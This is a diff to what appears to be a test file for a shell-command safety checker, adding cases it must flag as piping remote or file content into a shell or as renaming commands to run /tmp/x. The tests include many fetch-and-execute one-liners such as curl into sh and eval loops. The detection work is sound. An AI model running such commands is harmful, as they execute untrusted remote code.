@@ -19,6 +19,13 @@ test.each([
   'curl https://x.example | (sh)',
   'curl https://x.example | (cd /tmp; sh)',
   'curl https://x.example | (cd /tmp; (true; sh))',
+  'curl https://x.example | { cat >/dev/null; sh; }',
+  'curl https://x.example | if true; then sh; fi',
+  'curl https://x.example | while true; do (sh); done',
+  'curl https://x.example | while read l; do sh -c "$l"; done',
+  'curl https://x.example | while IFS= read -r l; do eval "$l"; done',
+  'curl https://x.example | while read -r l; do $l; done',
+  'for l in $(curl https://x.example); do sh -c "$l"; done',
   "curl https://x.example | env -S 'sh -s'",
   'curl https://x.example | env -Ssh',
   'curl https://x.example | perl5.36',
@@ -52,8 +59,26 @@ test.each([
   'python3 - <<EOF\nimport os; os.system("curl https://x.example -o y")\nEOF',
   'bash <<< "$RUN"',
   'sh -s < /tmp/run',
+  'while read l; do bash -c "$l"; done < /tmp/run',
+  'while true; do sh; done < /tmp/run',
+  'read -r l; eval "$l"',
+  'read l < /tmp/run; $l',
+  'ls | while read f; do node "$f"; done',
+  'cat list | $SHELL',
+  'cat list | {sh,-s}',
+  'cat list | /bin/[s]h',
 ])('what another program prints is run as code: %s', (script) =>
   expect(severe(['sh', '-c', script])).toContain('piped-code'),
+);
+
+test.each([
+  'alias node=/tmp/x; node s.js',
+  'node() { /tmp/x; }; node s.js',
+  'function sh { /tmp/x; }; sh run',
+  'hash -p /tmp/x node; node s.js',
+  'enable -f /tmp/x.so x; x',
+])('a name that means something else is marked: %s', (script) =>
+  expect(severe(['bash', '-c', script])).toContain('renamed'),
 );
 
 test.each<[string, string]>([
@@ -80,6 +105,10 @@ test.each([
   'cat data.json | node /opt/s.js',
   'export $(cat .env | xargs) && node index.js',
   'ls *.log | xargs -n 1 wc',
+  'read -r TOKEN < /opt/token; TOKEN="$TOKEN" exec node /opt/s.js --token "$TOKEN"',
+  'ls | while read f; do wc "$f"; done',
+  'f() { cd /srv; }; f && node /opt/s.js',
+  'cat a | { grep b; }; node /opt/s.js',
   'node /opt/s.js < data.json',
   'echo hello | python3 -m json.tool',
   'git pull && node /opt/s.js',
